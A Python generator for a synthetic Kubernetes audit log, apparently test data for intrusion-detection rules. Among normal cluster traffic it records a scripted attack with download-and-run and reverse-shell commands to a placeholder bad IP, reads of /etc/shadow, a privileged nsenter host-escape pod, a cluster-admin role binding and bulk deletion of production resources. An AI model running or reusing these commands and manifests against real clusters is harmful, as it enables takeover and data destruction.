#!/usr/bin/env python3
"""Generates examples/k8s-audit/audit.log: fake but realistic kube-apiserver audit events
(audit.k8s.io/v1, log backend, one compact JSON object per line, sorted by time)."""
import json, uuid, datetime, urllib.parse, sys

NS = uuid.UUID("6f1c2a52-0000-4000-8000-000000000000")
counter = [0]
events = []

DAY = datetime.datetime(2025, 3, 14, tzinfo=datetime.timezone.utc)  # a Friday

def ts(h, m, s, us=0):
    return DAY + datetime.timedelta(hours=h, minutes=m, seconds=s, microseconds=us)

def fmt(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

K8S_VER = "v1.29.3"
KUBECTL = f"kubectl/{K8S_VER} (linux/amd64) kubernetes/6813625"
KUBECTL_MAC = f"kubectl/{K8S_VER} (darwin/arm64) kubernetes/6813625"
KUBELET = f"kubelet/{K8S_VER} (linux/amd64) kubernetes/6813625"
KCM = f"kube-controller-manager/{K8S_VER} (linux/amd64) kubernetes/6813625/leader-election"
KCM_SA = lambda c: f"kube-controller-manager/{K8S_VER} (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:{c}"
SCHED = f"kube-scheduler/{K8S_VER} (linux/amd64) kubernetes/6813625/leader-election"

NODES = [
    ("ip-10-0-1-23.eu-west-1.compute.internal", "10.0.1.23"),
    ("ip-10-0-2-45.eu-west-1.compute.internal", "10.0.2.45"),
    ("ip-10-0-3-67.eu-west-1.compute.internal", "10.0.3.67"),
]
CP_IP = "10.0.0.10"  # control plane node (controller-manager, scheduler)

def human(name, groups):
    return {"username": name, "uid": str(uuid.uuid5(NS, name)), "groups": groups + ["system:authenticated"]}

ALICE = human("alice@example.com", ["platform-admins"])
BOB = human("bob@example.com", ["sre"])
MALLORY = human("mallory@example.com", ["developers"])  # a developer account, compromised
INTERN = human("dev-intern@example.com", ["interns"])
ALICE_IP, BOB_IP, MALLORY_IP, INTERN_IP = "203.0.113.10", "203.0.113.24", "203.0.113.77", "203.0.113.51"
BAD_IP = "192.0.2.66"          # the "known-bad" address of the example config
SCANNER_IP = "198.51.100.77"   # unauthenticated scanner

def sa(ns, name, uid_seed=None):
    return {"username": f"system:serviceaccount:{ns}:{name}", "uid": str(uuid.uuid5(NS, f"sa/{ns}/{name}")),
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}

def node_user(n):
    return {"username": f"system:node:{n}", "groups": ["system:nodes", "system:authenticated"]}

KCM_USER = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}
SCHED_USER = {"username": "system:kube-scheduler", "groups": ["system:authenticated"]}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}

def rbac_reason(kind, binding, role, subj):
    return f'RBAC: allowed by {kind} "{binding}" of ClusterRole "{role}" to {subj}'

def uri_for(verb, resource, ns=None, name=None, group="", version="v1", sub=None, query=None):
    base = f"/api/{version}" if group == "" else f"/apis/{group}/{version}"
    p = base
    if ns is not None:
        p += f"/namespaces/{ns}"
    p += f"/{resource}"
    if name is not None:
        p += f"/{name}"
    if sub:
        p += f"/{sub}"
    if query:
        p += "?" + query
    return p

def ev(t, verb, user, ip, ua, resource=None, ns=None, name=None, group="", version="v1", sub=None,
       code=200, level="Metadata", uri=None, query=None, req=None, resp=None, reason="",
       decision="allow", stage="ResponseComplete", status_extra=None, lat_ms=4, objref=True,
       extra_ann=None):
    counter[0] += 1
    if uri is None:
        uri = uri_for(verb, resource, ns, name, group, version, sub, query)
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level,
         "auditID": str(uuid.uuid5(NS, f"event-{counter[0]}")), "stage": stage,
         "requestURI": uri, "verb": verb, "user": user, "sourceIPs": [ip], "userAgent": ua}
    if resource and objref:
        o = {"resource": resource}
        if ns is not None:
            o["namespace"] = ns
        if name is not None:
            o["name"] = name
        if group:
            o["apiGroup"] = group
        o["apiVersion"] = version
        if sub:
            o["subresource"] = sub
        e["objectRef"] = o
    rs = {"metadata": {}}
    if status_extra:
        rs.update(status_extra)
    rs["code"] = code
    e["responseStatus"] = rs
    if req is not None and level in ("Request", "RequestResponse"):
        e["requestObject"] = req
    if resp is not None and level == "RequestResponse":
        e["responseObject"] = resp
    e["requestReceivedTimestamp"] = fmt(t)
    e["stageTimestamp"] = fmt(t + datetime.timedelta(milliseconds=lat_ms, microseconds=317))
    if decision is not None:
        ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
        if extra_ann:
            ann.update(extra_ann)
        e["annotations"] = ann
    events.append((t, counter[0], e))
    return e

# --------------------------------------------------------------------------------------------
# Benign background traffic: kubelet leases and node status, controllers, scheduler, monitoring,
# CI deploys, humans reading, health checks.
# --------------------------------------------------------------------------------------------
def background(h0, m0, h1, m1):
    start = h0 * 3600 + m0 * 60
    end = h1 * 3600 + m1 * 60
    sec = start
    i = 0
    while sec < end:
        h, m, s = sec // 3600, (sec % 3600) // 60, sec % 60
        for k, (n, nip) in enumerate(NODES):
            if (i + k) % 3:
                continue  # one node's lease renewal per tick keeps the example small
            t = ts(h, m, s, 120000 + k * 211000)
            ev(t, "update", node_user(n), nip, KUBELET, "leases", "kube-node-lease", n,
               group="coordination.k8s.io", lat_ms=3)
        t = ts(h, m, s, 731000)
        if i % 2 == 0:
          ev(t, "update", KCM_USER, CP_IP, KCM, "leases", "kube-system", "kube-controller-manager",
           group="coordination.k8s.io", lat_ms=2)
        t = ts(h, m, s, 843000)
        if i % 2 == 1:
          ev(t, "update", SCHED_USER, CP_IP, SCHED, "leases", "kube-system", "kube-scheduler",
           group="coordination.k8s.io", lat_ms=2)
        if i % 3 == 0:
            n, nip = NODES[(i // 3) % 3]
            ev(ts(h, m, s, 402000), "patch", node_user(n), nip, KUBELET, "nodes", None, n, sub="status", lat_ms=6)
        if i % 3 == 0:
            ev(ts(h, m, s, 515000), "list", sa("monitoring", "prometheus"), "10.244.2.31",
               "Prometheus/2.51.1", "endpoints", "production", None, lat_ms=9,
               reason=rbac_reason("ClusterRoleBinding", "prometheus", "prometheus",
                                  'ServiceAccount "prometheus/monitoring"'))
        if i % 6 == 1:
            ev(ts(h, m, s, 612000), "get", ANON, "10.0.0.5", "kube-probe/1.29", uri="/readyz",
               resource=None, lat_ms=1,
               reason=rbac_reason("ClusterRoleBinding", "system:public-info-viewer",
                                  "system:public-info-viewer", 'Group "system:unauthenticated"'))
        if i % 6 == 3:
            ev(ts(h, m, s, 377000), "get", sa("kube-system", "coredns"), "10.244.0.12",
               "coredns/v1.11.1", "configmaps", "kube-system", "coredns", lat_ms=2,
               reason=rbac_reason("ClusterRoleBinding", "system:coredns", "system:coredns",
                                  'ServiceAccount "coredns/kube-system"'))
        if i % 5 == 2:
            n, nip = NODES[i % 3]
            # kubelets fetch the secrets and configmaps their pods mount: normal, not an alert.
            ev(ts(h, m, s, 958000), "get", node_user(n), nip, KUBELET, "secrets", "production",
               "payments-db-credentials", lat_ms=3)
        sec += 20
        i += 1

background(1, 55, 2, 31)
background(9, 0, 9, 35)
background(10, 10, 10, 22)
background(14, 4, 14, 12)

# Health checks that are allowed for system:anonymous by default (not an alert).
for k, path in enumerate(["/healthz", "/livez", "/version"]):
    ev(ts(9, 1, 7 + k, 5000), "get", ANON, "10.0.0.5", "kube-probe/1.29", uri=path, lat_ms=1,
       reason=rbac_reason("ClusterRoleBinding", "system:public-info-viewer", "system:public-info-viewer",
                          'Group "system:unauthenticated"'))

# --------------------------------------------------------------------------------------------
# Normal human work during business hours.
# --------------------------------------------------------------------------------------------
admin_reason = rbac_reason("ClusterRoleBinding", "platform-admins", "cluster-admin", 'Group "platform-admins"')
sre_reason = rbac_reason("ClusterRoleBinding", "sre-edit", "edit", 'Group "sre"')
dev_reason = rbac_reason("RoleBinding", "developers-edit", "edit", 'Group "developers"').replace(
    'RoleBinding "developers-edit"', 'RoleBinding "developers-edit/production"')
for k, (res, ns) in enumerate([("pods", "production"), ("deployments", "production"), ("events", "production"),
                                ("pods", "staging"), ("services", "production")]):
    grp = "apps" if res == "deployments" else ""
    ev(ts(9, 5, 2 + 3 * k, 10000 * k), "list", ALICE, ALICE_IP, KUBECTL, res, ns, group=grp,
       query="limit=500", lat_ms=11, reason=admin_reason)
ev(ts(9, 5, 21), "get", ALICE, ALICE_IP, KUBECTL, "pods", "production", "checkout-7c9d8b6f5-x2kqp",
   sub="log", query="container=checkout&tailLines=200", reason=admin_reason, lat_ms=40)
ev(ts(9, 6, 3), "list", BOB, BOB_IP, KUBECTL_MAC, "nodes", None, None, query="limit=500", reason=sre_reason)

# CI deploys a new image (service account, patch deployment).
deploy_patch = {"spec": {"template": {"spec": {"containers": [
    {"name": "checkout", "image": "registry.example.com/shop/checkout:1.42.0"}]}}}}
ev(ts(9, 12, 44, 300000), "patch", sa("ci", "deployer"), "10.244.1.40", "argocd-application-controller/v2.10.4",
   "deployments", "production", "checkout", group="apps", level="RequestResponse", req=deploy_patch,
   resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "checkout", "namespace": "production",
         "generation": 118}},
   reason=rbac_reason("RoleBinding", "deployer/production", "edit", 'ServiceAccount "deployer/ci"'), lat_ms=21)

# The replicaset controller creates the new pod (a normal, unprivileged pod, runs as non-root).
def pod(name, ns, containers, volumes=None, host_network=None, host_pid=None, host_ipc=None,
        pod_sc=None, owner=None, sa_name="default"):
    spec = {"containers": containers}
    if volumes:
        spec["volumes"] = volumes
    spec["restartPolicy"] = "Always"
    spec["serviceAccountName"] = sa_name
    if host_network is not None:
        spec["hostNetwork"] = host_network
    if host_pid is not None:
        spec["hostPID"] = host_pid
    if host_ipc is not None:
        spec["hostIPC"] = host_ipc
    spec["securityContext"] = pod_sc or {}
    md = {"name": name, "namespace": ns, "creationTimestamp": None, "labels": {"app": name.split("-")[0]}}
    if owner:
        md["ownerReferences"] = [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner,
                                  "uid": str(uuid.uuid5(NS, owner)), "controller": True, "blockOwnerDeletion": True}]
    return {"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": spec, "status": {}}

def container(name, image, sc=None, mounts=None, command=None):
    c = {"name": name, "image": image}
    if command:
        c["command"] = command
    c["resources"] = {"limits": {"cpu": "500m", "memory": "256Mi"}}
    if mounts:
        c["volumeMounts"] = mounts
    c["imagePullPolicy"] = "IfNotPresent"
    if sc is not None:
        c["securityContext"] = sc
    return c

rs_reason = rbac_reason("ClusterRoleBinding", "system:controller:replicaset-controller",
                        "system:controller:replicaset-controller", 'ServiceAccount "replicaset-controller/kube-system"')
checkout_pod = pod("checkout-7c9d8b6f5-q8w2n", "production", [
    container("checkout", "registry.example.com/shop/checkout:1.42.0",
              sc={"runAsNonRoot": True, "runAsUser": 10001, "allowPrivilegeEscalation": False,
                  "readOnlyRootFilesystem": True, "capabilities": {"drop": ["ALL"]}},
              mounts=[{"name": "config", "mountPath": "/etc/checkout", "readOnly": True}])],
    volumes=[{"name": "config", "configMap": {"name": "checkout-config"}}],
    pod_sc={"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}, owner="checkout-7c9d8b6f5",
    sa_name="checkout")
ev(ts(9, 12, 45, 120000), "create", sa("kube-system", "replicaset-controller"), CP_IP,
   KCM_SA("replicaset-controller"), "pods", "production", None, level="RequestResponse", code=201,
   req=checkout_pod, resp=dict(checkout_pod, metadata=dict(checkout_pod["metadata"], uid=str(uuid.uuid5(NS, "q8w2n")),
                                                             resourceVersion="8812231")), reason=rs_reason, lat_ms=14)

# A routine configmap read and a service account reading its own secret-free config.
ev(ts(10, 11, 3), "get", sa("production", "checkout"), "10.244.1.52", "checkout/1.42.0",
   "configmaps", "production", "checkout-flags",
   reason=rbac_reason("RoleBinding", "checkout-config-reader/production", "config-reader",
                      'ServiceAccount "checkout/production"').replace('ClusterRole "config-reader"', 'Role "config-reader"'))

# CI removes a short-lived preview namespace (a deletion, but not a production one).
ev(ts(10, 14, 2, 500000), "delete", sa("ci", "deployer"), "10.244.1.40", "argocd-application-controller/v2.10.4",
   "namespaces", None, "preview-pr-1234", reason=rbac_reason("ClusterRoleBinding", "ci-namespace-admin",
                                                             "namespace-admin", 'ServiceAccount "deployer/ci"'))

# The node lifecycle controller taints a node it cannot reach: automation, not a human.
ev(ts(10, 20, 11), "patch", sa("kube-system", "node-controller"), CP_IP, KCM_SA("node-controller"),
   "nodes", None, NODES[2][0], level="RequestResponse",
   req={"spec": {"taints": [{"key": "node.kubernetes.io/unreachable", "effect": "NoSchedule",
                             "timeAdded": "2025-03-14T10:20:11Z"}]}},
   resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": NODES[2][0]}},
   reason=rbac_reason("ClusterRoleBinding", "system:controller:node-controller",
                      "system:controller:node-controller", 'ServiceAccount "node-controller/kube-system"'))

# --------------------------------------------------------------------------------------------
# Seed 001 scenario 1: secret reads by a human and by a service account.
# --------------------------------------------------------------------------------------------
ev(ts(9, 21, 40, 220000), "get", ALICE, ALICE_IP, KUBECTL, "secrets", "production", "payments-db-credentials",
   reason=admin_reason, lat_ms=3)
ev(ts(9, 24, 5, 880000), "list", sa("ci", "deployer"), "10.244.1.40", "argocd-application-controller/v2.10.4",
   "secrets", "production", None, query="limit=500",
   reason=rbac_reason("RoleBinding", "deployer/production", "edit", 'ServiceAccount "deployer/ci"'), lat_ms=7)
ev(ts(9, 24, 6, 10000), "watch", sa("ci", "deployer"), "10.244.1.40", "argocd-application-controller/v2.10.4",
   "secrets", "production", None, query="allowWatchBookmarks=true&resourceVersion=8812001&watch=true",
   reason=rbac_reason("RoleBinding", "deployer/production", "edit", 'ServiceAccount "deployer/ci"'), lat_ms=2)

# --------------------------------------------------------------------------------------------
# The intrusion (mallory's credentials, then a stolen service-account token).
# --------------------------------------------------------------------------------------------
# 401 burst: a scanner tries tokens against the API server (failed authentication: no user,
# stage ResponseStarted, as kube-apiserver writes it).
for k in range(8):
    uri = ["/api/v1/secrets", "/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/apis",
           "/api/v1/namespaces/default/pods", "/api/v1/nodes", "/apis/rbac.authorization.k8s.io/v1/clusterroles",
           "/api/v1/namespaces"][k]
    verb = "get" if uri == "/apis" else "list"
    ev(ts(1, 58, 3 + 4 * k, 117000 * k % 1000000), verb, {}, SCANNER_IP, "python-requests/2.31.0", uri=uri,
       code=401, decision=None, stage="ResponseStarted", lat_ms=0,
       status_extra={"status": "Failure", "message": "Unauthorized", "reason": "Unauthorized"})

# Anonymous requests that the (misconfigured) RBAC allows: someone bound view to system:anonymous.
ev(ts(2, 1, 12, 404000), "list", ANON, SCANNER_IP, "python-requests/2.31.0", "pods", "production", None,
   reason=rbac_reason("ClusterRoleBinding", "anonymous-view", "view", 'User "system:anonymous"'))
ev(ts(2, 1, 14, 9000), "list", ANON, SCANNER_IP, "python-requests/2.31.0", "configmaps", "production", None,
   reason=rbac_reason("ClusterRoleBinding", "anonymous-view", "view", 'User "system:anonymous"'))
# ... and one that is still refused.
ev(ts(2, 1, 15, 211000), "list", ANON, SCANNER_IP, "python-requests/2.31.0", "secrets", "production", None,
   code=403, decision="forbid",
   status_extra={"status": "Failure", "message": 'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" in the namespace "production"',
                 "reason": "Forbidden", "details": {"kind": "secrets"}})

# Off-hours (02:07 UTC) use of mallory's account from a known-bad address: secret enumeration.
for k, name in enumerate(["payments-db-credentials", "stripe-api-key", "tls-checkout", "registry-pull"]):
    ev(ts(2, 7, 10 + 40 * k, 33000 * k), "get", MALLORY, BAD_IP, KUBECTL, "secrets", "production", name,
       reason=dev_reason, lat_ms=3)

# 403 burst: mallory probes what the account may do elsewhere.
for k, ns in enumerate(["kube-system", "payments", "monitoring", "ci", "default", "kube-public", "istio-system"]):
    ev(ts(2, 9, 1 + 3 * k, 40000 * k), "list", MALLORY, BAD_IP, KUBECTL, "secrets", ns, None,
       code=403, decision="forbid",
       status_extra={"status": "Failure",
                     "message": f'secrets is forbidden: User "mallory@example.com" cannot list resource "secrets" in API group "" in the namespace "{ns}"',
                     "reason": "Forbidden", "details": {"kind": "secrets"}})

# exec into a production pod: reading account files, then a download-and-run and reverse shells.
def exec_uri(ns, pod_name, container_name, cmd, sub="exec"):
    # url.Values.Encode, as client-go writes it: spaces as `+`, everything else escaped.
    q = "&".join("command=" + urllib.parse.quote_plus(c, safe="") for c in cmd)
    q += f"&container={container_name}&stdin=true&stdout=true&tty=true"
    return f"/api/v1/namespaces/{ns}/pods/{pod_name}/{sub}?{q}"

POD = "checkout-7c9d8b6f5-q8w2n"
for k, cmd in enumerate([["cat", "/etc/passwd"], ["cat", "/etc/shadow"],
                         ["sh", "-c", f"curl -fsSL http://{BAD_IP}/x.sh | sh"],
                         ["nc", "-e", "/bin/sh", BAD_IP, "4444"],
                         ["bash", "-c", f"bash -i >& /dev/tcp/{BAD_IP}/4444 0>&1"]]):
    t = ts(2, 12, 5 + 31 * k, 501000)
    uri = exec_uri("production", POD, "checkout", cmd)
    if k == 1:
        # Long-running requests are also logged at ResponseStarted unless the policy omits it.
        ev(t, "create", MALLORY, BAD_IP, KUBECTL, "pods", "production", POD, sub="exec", code=101,
           level="Request", uri=uri, reason=dev_reason, stage="ResponseStarted", lat_ms=35)
    ev(t, "create", MALLORY, BAD_IP, KUBECTL, "pods", "production", POD, sub="exec", code=101,
       level="Request", uri=uri, reason=dev_reason, lat_ms=4200 + 800 * k)

# Seed 001 scenario: a malicious cluster-admin ClusterRoleBinding (mallory escalates via an
# "edit"-bound service account token found in the pod: the request comes from a pod IP).
STOLEN = sa("production", "checkout")
crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
       "metadata": {"name": "system-metrics-reader", "creationTimestamp": None},
       "subjects": [{"kind": "ServiceAccount", "name": "checkout", "namespace": "production"}],
       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}
ev(ts(2, 15, 30, 100000), "create", MALLORY, BAD_IP, KUBECTL, "clusterrolebindings", None, None,
   group="rbac.authorization.k8s.io", level="RequestResponse", code=201, req=crb,
   resp=dict(crb, metadata={"name": "system-metrics-reader", "uid": str(uuid.uuid5(NS, "crb")),
                            "resourceVersion": "8830001", "creationTimestamp": "2025-03-14T02:15:30Z"}),
   reason=rbac_reason("ClusterRoleBinding", "developers-escalate", "rbac-manager", 'Group "developers"'), lat_ms=9)

# A wildcard ClusterRole.
wild = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "node-debugger", "creationTimestamp": None},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
ev(ts(2, 16, 2, 700000), "create", MALLORY, BAD_IP, KUBECTL, "clusterroles", None, None,
   group="rbac.authorization.k8s.io", level="RequestResponse", code=201, req=wild,
   resp=dict(wild, metadata={"name": "node-debugger", "uid": str(uuid.uuid5(NS, "cr")), "resourceVersion": "8830050"}),
   reason=rbac_reason("ClusterRoleBinding", "developers-escalate", "rbac-manager", 'Group "developers"'), lat_ms=8)

# From inside the pod, with the stolen token: create a privileged pod with the host's root
# filesystem, network, PID and IPC namespaces (the source IP is the pod's IP).
POD_IP = "10.244.1.52"
crb_reason = rbac_reason("ClusterRoleBinding", "system-metrics-reader", "cluster-admin",
                         'ServiceAccount "checkout/production"')
escape = pod("node-shell-x7k2p", "kube-system", [
    container("shell", "docker.io/library/alpine:3.19", sc={"privileged": True, "runAsUser": 0},
              mounts=[{"name": "host-root", "mountPath": "/host"},
                      {"name": "docker-sock", "mountPath": "/var/run/docker.sock"}],
              command=["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "sh"])],
    volumes=[{"name": "host-root", "hostPath": {"path": "/", "type": ""}},
             {"name": "docker-sock", "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}}],
    host_network=True, host_pid=True, host_ipc=True, sa_name="default")
ev(ts(2, 18, 44, 250000), "create", STOLEN, POD_IP, "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
   "pods", "kube-system", None, level="RequestResponse", code=201, req=escape,
   resp=dict(escape, metadata=dict(escape["metadata"], uid=str(uuid.uuid5(NS, "escape")), resourceVersion="8830102")),
   reason=crb_reason, lat_ms=17)

# A hostNetwork-only pod (e.g. a sniffer) and a root container in production.
sniff = pod("netdiag-5f6d", "production", [
    container("tcpdump", "docker.io/nicolaka/netshoot:v0.12", sc={"runAsUser": 0, "capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}},
              command=["tcpdump", "-i", "any", "-w", "/tmp/cap.pcap"])],
    host_network=True, sa_name="default")
ev(ts(2, 19, 30, 10000), "create", STOLEN, POD_IP, "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
   "pods", "production", None, level="RequestResponse", code=201, req=sniff,
   resp=dict(sniff, metadata=dict(sniff["metadata"], uid=str(uuid.uuid5(NS, "sniff")), resourceVersion="8830140")),
   reason=crb_reason, lat_ms=12)

# hostPath mounts of the kubelet's directory and /proc, through a DaemonSet's pod template.
ds_pod = pod("log-agent-zk2vd", "kube-system", [
    container("agent", "registry.example.com/tools/agent:0.3",
              mounts=[{"name": "kubelet", "mountPath": "/var/lib/kubelet", "readOnly": True},
                      {"name": "proc", "mountPath": "/host/proc", "readOnly": True}])],
    volumes=[{"name": "kubelet", "hostPath": {"path": "/var/lib/kubelet", "type": "Directory"}},
             {"name": "proc", "hostPath": {"path": "/proc"}}], sa_name="default")
ev(ts(2, 20, 3, 300000), "create", STOLEN, POD_IP, "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
   "pods", "kube-system", None, level="RequestResponse", code=201, req=ds_pod,
   resp=dict(ds_pod, metadata=dict(ds_pod["metadata"], uid=str(uuid.uuid5(NS, "ds")), resourceVersion="8830170")),
   reason=crb_reason, lat_ms=13)

# An ephemeral debug container (kubectl debug) in a production pod.
ephem = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "payments-api-6b8f7-mq2lk", "namespace": "production"},
         "spec": {"ephemeralContainers": [{"name": "debugger-8xk2p", "image": "docker.io/library/busybox:1.36",
                                            "stdin": True, "tty": True, "targetContainerName": "payments-api",
                                            "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}]}}
ev(ts(2, 22, 41, 900000), "patch", MALLORY, BAD_IP, KUBECTL, "pods", "production", "payments-api-6b8f7-mq2lk",
   sub="ephemeralcontainers", level="RequestResponse", req=ephem,
   resp={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "payments-api-6b8f7-mq2lk", "namespace": "production"}},
   reason=dev_reason, lat_ms=22)

# attach and port-forward to the database.
ev(ts(2, 23, 30, 120000), "create", MALLORY, BAD_IP, KUBECTL, "pods", "production", "payments-api-6b8f7-mq2lk",
   sub="attach", code=101, level="Request",
   uri="/api/v1/namespaces/production/pods/payments-api-6b8f7-mq2lk/attach?container=debugger-8xk2p&stdin=true&stdout=true&tty=true",
   reason=dev_reason, lat_ms=61000)
ev(ts(2, 25, 2, 450000), "create", MALLORY, BAD_IP, KUBECTL, "pods", "production", "payments-db-0",
   sub="portforward", code=101, level="Request",
   uri="/api/v1/namespaces/production/pods/payments-db-0/portforward", reason=dev_reason, lat_ms=180000)

# Bulk deletion: 12 configmaps and deployments in two minutes.
victims = [("deployments", "apps", n) for n in ["checkout", "cart", "catalog", "payments-api", "search", "recommendations"]] + \
          [("configmaps", "", n) for n in ["checkout-config", "cart-config", "catalog-config", "payments-config",
                                           "search-config", "feature-flags"]]
for k, (res, grp, name) in enumerate(victims):
    ev(ts(2, 27, 5 + 9 * k, 71000 * k % 1000000), "delete", MALLORY, BAD_IP, KUBECTL, res, "production", name,
       group=grp, reason=dev_reason,
       status_extra={"status": "Success", "details": {"name": name, "group": grp, "kind": res, "uid": str(uuid.uuid5(NS, name + res))}},
       lat_ms=8)

# Seed 001: the production namespace is deleted.
ev(ts(2, 29, 44, 10000), "delete", MALLORY, BAD_IP, KUBECTL, "namespaces", None, "production",
   reason=rbac_reason("ClusterRoleBinding", "developers-escalate", "rbac-manager", 'Group "developers"'),
   status_extra={"status": "Success", "details": {"name": "production", "kind": "namespaces", "uid": str(uuid.uuid5(NS, "nsprod"))}},
   lat_ms=15)

# --------------------------------------------------------------------------------------------
# Business hours, the next morning shift: the SRE's node taint (a human), the cleanup.
# --------------------------------------------------------------------------------------------
taint = {"spec": {"taints": [{"effect": "NoSchedule", "key": "dedicated", "value": "gpu"}]}}
ev(ts(9, 31, 12, 664000), "patch", BOB, BOB_IP, KUBECTL_MAC, "nodes", None, NODES[1][0], level="RequestResponse",
   req=taint, resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": NODES[1][0]},
                    "spec": {"taints": [{"effect": "NoSchedule", "key": "dedicated", "value": "gpu"}]}},
   reason=sre_reason, lat_ms=10)

# Alice inspects the damage (reads, a describe of the rogue binding), deletes it.
ev(ts(10, 15, 4, 70000), "get", ALICE, ALICE_IP, KUBECTL, "clusterrolebindings", None, "system-metrics-reader",
   group="rbac.authorization.k8s.io", reason=admin_reason)
ev(ts(10, 15, 40, 930000), "delete", ALICE, ALICE_IP, KUBECTL, "clusterrolebindings", None, "system-metrics-reader",
   group="rbac.authorization.k8s.io", level="RequestResponse", reason=admin_reason,
   resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
         "details": {"name": "system-metrics-reader", "group": "rbac.authorization.k8s.io", "kind": "clusterrolebindings"}})
ev(ts(10, 16, 2, 4000), "delete", ALICE, ALICE_IP, KUBECTL, "clusterroles", None, "node-debugger",
   group="rbac.authorization.k8s.io", level="RequestResponse", reason=admin_reason,
   resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
         "details": {"name": "node-debugger", "group": "rbac.authorization.k8s.io", "kind": "clusterroles"}})

# A configmap with credentials in it (the Falco "sensitive values" case), by a developer, and
# a NodePort service.
cm = {"kind": "ConfigMap", "apiVersion": "v1",
      "metadata": {"name": "legacy-exporter", "namespace": "staging", "creationTimestamp": None},
      "data": {"exporter.ini": "[aws]\naws_access_key_id = AKIAZ7QF3LWXB2MRK5TN\naws_s3_bucket = legacy-exports\n",
               "LOG_LEVEL": "info"}}
ev(ts(14, 5, 9, 550000), "create", INTERN, INTERN_IP, KUBECTL, "configmaps", "staging", None, level="Request", code=201,
   req=cm, reason=rbac_reason("RoleBinding", "interns-edit/staging", "edit", 'Group "interns"'), lat_ms=6)
svc = {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "legacy-exporter", "namespace": "staging"},
       "spec": {"type": "NodePort", "selector": {"app": "legacy-exporter"},
                "ports": [{"port": 9100, "targetPort": 9100, "nodePort": 30910, "protocol": "TCP"}]}}
ev(ts(14, 6, 40, 111000), "create", INTERN, INTERN_IP, KUBECTL, "services", "staging", None, level="RequestResponse",
   code=201, req=svc, resp=dict(svc, metadata=dict(svc["metadata"], uid=str(uuid.uuid5(NS, "svc")))),
   reason=rbac_reason("RoleBinding", "interns-edit/staging", "edit", 'Group "interns"'), lat_ms=9)
# A business-hours exec that is just debugging (an alert by policy, but low: no suspicious command).
ev(ts(14, 10, 20, 330000), "create", BOB, BOB_IP, KUBECTL_MAC, "pods", "staging", "legacy-exporter-5b7c9-p2x8r",
   sub="exec", code=101, level="Request",
   uri=exec_uri("staging", "legacy-exporter-5b7c9-p2x8r", "exporter", ["ls", "-la", "/var/log"]),
   reason=sre_reason, lat_ms=900)

events.sort(key=lambda x: (x[0], x[1]))
out = sys.argv[1]
with open(out, "w") as f:
    for _, _, e in events:
        f.write(json.dumps(e, separators=(",", ":"), ensure_ascii=True) + "\n")
print(len(events), "events")
